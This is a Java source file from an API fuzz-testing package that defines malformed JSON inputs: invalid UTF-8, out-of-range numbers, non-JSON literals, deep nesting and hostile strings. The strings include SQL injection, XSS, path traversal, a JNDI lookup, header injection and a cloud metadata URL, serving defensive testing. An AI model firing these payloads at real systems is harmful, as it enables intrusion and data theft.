package dev.warden.api.fuzz;

import java.util.List;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.util.RawValue;

/** The hostile values the cases are made of: wrong JSON types, absurd numbers, strings no field expects. */
final class Hostile {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** How deep the nesting cases go: far past any parser's default limit (Jackson's is 1,000). */
    static final int DEEP = 10_000;

    /** In a string value, stands for bytes that are not UTF-8 (substituted once the document is bytes). */
    static final String NOT_UTF8_MARKER = "NOT-UTF8-BYTES-HERE";

    /** Byte sequences no UTF-8 decoder accepts: a lone continuation, an overlong '/', a surrogate, 0xFF. */
    static final List<byte[]> NOT_UTF8 = List.of(new byte[] { (byte) 0x80 }, new byte[] { (byte) 0xC0, (byte) 0xAF },
            new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, new byte[] { (byte) 0xFF, (byte) 0xFE },
            new byte[] { (byte) 0xC3, (byte) 0x28 }, new byte[] { (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 });

    /** Numbers as written on the wire: beyond double, beyond long, negative zero, absurd precision. */
    static final List<String> NUMBERS = List.of("1e999999", "-1e999999", "-0", "18446744073709551616",
            "-9223372036854775809", "9".repeat(5_000), "0." + "0".repeat(5_000) + "1", "1E-999999",
            "1.7976931348623157e309",
            "4.9e-325", "0", "-1", "123456789.123456789e123456789");

    /** Not JSON at all, though some parsers take them. */
    static final List<String> NON_JSON_LITERALS = List.of("NaN", "Infinity", "-Infinity", "undefined", "0x10", "01",
            "+1", ".5", "1.", "'single'", "True", "nul");

    static final List<String> STRINGS = List.of("", " ", "\u0000", "a\u0000b", "\u0001\u0002\u0003\u001f\u007f",
            "\r\nX-Injected: 1", "\ud800", "\udfff\ud800", "\u202eevil", "\ufeff", "\uffff", "😀".repeat(100),
            "../../../etc/passwd", "<script>alert(1)</script>", "' OR '1'='1' --", "%s%n%x", "${jndi:ldap://x/a}",
            "#{7*7}", "{{7*7}}", "null", "true", "[]", "{}", "0", "-1", "not-a-uuid",
            "00000000-0000-0000-0000-000000000000", "http://169.254.169.254/latest/meta-data", "file:///etc/passwd",
            "javascript:alert(1)", "https://", "x".repeat(257), "x".repeat(20_001), "é".repeat(10_000));

    /** A value of every JSON type, so whatever a field expects, most of these are wrong. */
    static List<JsonNode> everyType() {
        return List.of(NODES.textNode("text"), NODES.numberNode(12345), NODES.numberNode(-0.5), NODES.booleanNode(true),
                NODES.booleanNode(false), NODES.nullNode(), NODES.arrayNode(), NODES.objectNode(),
                NODES.arrayNode().add(NODES.objectNode()), NODES.objectNode().put("unexpected", 1),
                NODES.arrayNode().add("text").add(1).add(NODES.nullNode()));
    }

    static JsonNode raw(String literal) {
        return NODES.rawValueNode(new RawValue(literal));
    }

    /** {@code [[[...]]]} or {@code {"a":{"a":...}}}, {@code depth} levels deep, as JSON text. */
    static String nested(int depth, boolean arrays) {
        String open = arrays ? "[" : "{\"a\":";
        String close = arrays ? "]" : "}";
        return open.repeat(depth) + "1" + close.repeat(depth);
    }

    private Hostile() {
    }
}
